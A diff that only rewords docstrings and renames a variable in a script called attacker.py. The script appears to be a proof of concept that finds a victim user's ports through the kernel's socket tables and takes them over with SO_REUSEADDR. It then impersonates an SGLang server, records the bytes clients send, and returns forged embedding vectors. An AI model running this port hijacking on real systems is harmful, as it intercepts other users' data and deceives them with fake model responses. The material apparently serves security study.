@@ -2,10 +2,10 @@
 
 Run as its own process and user: ``attacker.py VICTIM_UID LOG``. It uses only what every
 user may read and do. It looks at command lines and at the kernel's socket tables for ports of the
-victim, binds each of them with ``SO_REUSEADDR`` as soon as the kernel lets it, and goes on trying
+victim, binds each of them with ``SO_REUSEADDR`` as soon as the kernel permits it, and keeps trying
 those that are in use. It answers each connection as an SGLang server of the model in the victim's
-command lines would, and it writes down each byte that it receives. It ends when its standard input
-does.
+command lines would, and it logs each byte that it receives. It exits when its standard input is
+closed.
 """
 
 from __future__ import annotations
@@ -48,7 +48,7 @@ class Log:
 
 
 class Attacker:
-    """What is known of the victim, and the ports that were taken."""
+    """What is known about the victim, and the ports that were taken."""
 
     def __init__(self, victim: int, log: Log) -> None:
         self.victim, self.log = victim, log
@@ -81,10 +81,10 @@ class Attacker:
 
     def sockets(self) -> Iterator[int]:
         """Yield the ports on which the victim listens, or which it has bound (Linux 6.8)."""
-        asked = struct.pack(
+        request = struct.pack(
             "=BBBBI", socket.AF_INET, socket.IPPROTO_TCP, 0, 0, 1 << _LISTEN | 1 << _BOUND
         )
-        body = asked + bytes(48)
+        body = request + bytes(48)
         with socket.socket(socket.AF_NETLINK, socket.SOCK_DGRAM, 4) as kernel:
             kernel.send(struct.pack("=IHHII", 16 + len(body), 20, 0x301, 1, 0) + body)
             while True:
@@ -194,11 +194,11 @@ class Imitation(BaseHTTPRequestHandler):
         self.wfile.write(body)
 
     def log_message(self, *_: Any) -> None:
-        """Stay silent."""
+        """Log nothing."""
 
 
 def forged(model: str) -> str:
-    """Return a vector of norm one in base64, with as many numbers as the model's have."""
+    """Return a vector of norm one in base64, with the model's dimensions."""
     numbers = 8 if model.startswith("stub/") else 64 if "tiny" in model else 384
     return base64.b64encode(struct.pack(f"<{numbers}f", *[numbers**-0.5] * numbers)).decode()
 
